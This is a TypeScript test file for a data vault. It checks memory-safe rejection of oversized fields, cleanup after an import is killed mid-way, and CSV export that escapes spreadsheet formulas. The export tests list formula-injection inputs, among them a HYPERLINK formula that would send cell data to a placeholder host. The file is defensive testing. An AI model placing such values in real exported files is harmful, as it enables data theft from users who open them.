/** @file Files that are no good, an import that is killed, and rows that would be formulas elsewhere. */

import { spawn } from 'node:child_process';
import { randomBytes } from 'node:crypto';
import { once } from 'node:events';
import {
  closeSync,
  existsSync,
  mkdtempSync,
  openSync,
  readFileSync,
  rmSync,
  writeFileSync,
  writeSync,
} from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import Database from 'better-sqlite3';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { fileSecrets } from '../../core/secrets.ts';
import { exportRows } from '../../core/vault/export.ts';
import { readListBatches } from '../../core/vault/readers/json.ts';
import { readJsonLineBatches } from '../../core/vault/readers/json-lines.ts';
import { readTableBatches } from '../../core/vault/readers/table.ts';
import { vaultKey } from '../../core/vault/vault-key.ts';
import { openVault } from '../../core/vault/vault.ts';
import { until } from '../helpers/until.ts';

const mapping = { kind: 'fields', fields: {} } as const;
let folder: string;
beforeEach(() => (folder = mkdtempSync(join(tmpdir(), 'tributary-bad-'))));
afterEach(() => rmSync(folder, { recursive: true }));

describe('one field of a gigabyte', () => {
  const GIGABYTE = 2 ** 30;
  const piece = Buffer.alloc(2 ** 20, 'a');

  /** The pieces of a file that begins like a row and never ends it. */
  async function* pieces(beginning: string) {
    yield { text: Buffer.from(beginning), bytes: beginning.length };
    for (let bytes = 0; bytes < GIGABYTE; bytes += piece.length)
      yield await Promise.resolve({ text: piece, bytes });
  }

  /** What reading throws or says of the field, and by how much the memory grew. */
  async function read(batches: AsyncIterable<{ readonly records: readonly object[] }>) {
    const before = process.memoryUsage().rss;
    let peak = before;
    const problems: unknown[] = [];
    try {
      for await (const { records } of batches) {
        peak = Math.max(peak, process.memoryUsage().rss);
        problems.push(...records);
      }
    } catch (error) {
      problems.push(error);
    }
    return { problems, grown: peak - before };
  }

  it.each([
    ['JSON Lines', () => readJsonLineBatches(pieces('{"question":"'))],
    ['a JSON list', () => readListBatches(pieces('[{"question":"'), { path: 'rows.json', skip: 1 })],
    [
      'a table',
      () =>
        readTableBatches(pieces('question,answer\n"'), {
          ...{ path: 'rows.csv', delimiter: ',', header: true, columns: ['question', 'answer'] },
        }),
    ],
  ])('is named and never held in memory: %s', { timeout: 120_000 }, async (_, batches) => {
    const { problems, grown } = await read(batches());
    expect(problems).toHaveLength(1);
    expect(['data.row-too-long', 'data.broken-file']).toContain((problems[0] as { code: string }).code);
    expect(grown).toBeLessThan(GIGABYTE / 4);
  });
});

describe('an import', () => {
  const program = join(import.meta.dirname, '..', '..', 'main', 'cli', 'bin.js');

  it(
    'that is killed half-way leaves nothing to be seen, and the next start deletes the rest',
    { timeout: 120_000 },
    async () => {
      const path = join(folder, 'many.jsonl');
      const file = openSync(path, 'w');
      for (let part = 0; part < 100; part++)
        writeSync(
          file,
          `${JSON.stringify({ question: `q${part}`, answer: 'a'.repeat(200) })}\n`.repeat(5000),
        );
      closeSync(file);
      const site = join(folder, 'site');
      const child = spawn(
        process.execPath,
        [program, 'site', 'data', 'import', path, '--dir', site, '--as', 'many'],
        {
          stdio: 'ignore',
        },
      );
      const vaultPath = join(site, 'vault.sqlite');
      const blocks = (): number => {
        if (!existsSync(vaultPath)) return 0;
        const database = new Database(vaultPath, { readonly: true });
        try {
          return Number(database.prepare('SELECT COUNT(*) FROM block').pluck().get());
        } catch {
          // The tables are not there yet.
          return 0;
        } finally {
          database.close();
        }
      };
      await until(() => expect(blocks()).toBeGreaterThan(10));
      child.kill('SIGKILL');
      await once(child, 'exit');
      expect(blocks()).toBeGreaterThan(10);
      const vault = openVault(vaultPath, { key: await vaultKey(fileSecrets(site), vaultPath) });
      expect(vault.datasets({ allVersions: true })).toEqual([]);
      expect(blocks()).toBe(0);
      vault.close();
    },
  );
});

describe('exportRows', () => {
  const formulas = ['=HYPERLINK("https://example.org?"&A1)', '+1', '-2+3', '@SUM(1)', '\t=1', '\r=1', '＝1'];

  async function exported(format: 'csv' | 'jsonl', rows: readonly object[]): Promise<string> {
    const from = join(folder, 'rows.jsonl');
    writeFileSync(from, rows.map((row) => `${JSON.stringify(row)}\n`).join(''));
    const vault = openVault(join(folder, 'vault.sqlite'), { key: randomBytes(32) });
    await vault.importFile(from, { as: 'notes', mapping });
    const path = join(folder, `out.${format}`);
    expect(await exportRows(vault, 'notes', { path, format })).toBe(rows.length);
    vault.close();
    return readFileSync(path, 'utf8');
  }

  it.each(formulas)('makes text of %j in CSV', async (formula) => {
    const csv = await exported('csv', [{ question: 'q', answer: formula }]);
    const quoted = formula.replaceAll('"', '""');
    expect([`question,answer\r\nq,'${formula}\r\n`, `question,answer\r\nq,"'${quoted}"\r\n`]).toContain(csv);
  });

  it('gives every field a column and keeps quotes and line breaks', async () => {
    const csv = await exported('csv', [{ a: 'one, "two"' }, { a: 'line\nbreak', b: 'x' }]);
    expect(csv).toBe('a,b\r\n"one, ""two""",\r\n"line\nbreak",x\r\n');
  });

  it('writes JSON Lines as the rows are', async () => {
    const rows = formulas.map((answer) => ({ question: 'q', answer }));
    const lines = (await exported('jsonl', rows)).trimEnd().split('\n');
    expect(lines.map((line) => JSON.parse(line) as unknown)).toEqual(rows);
  });
});
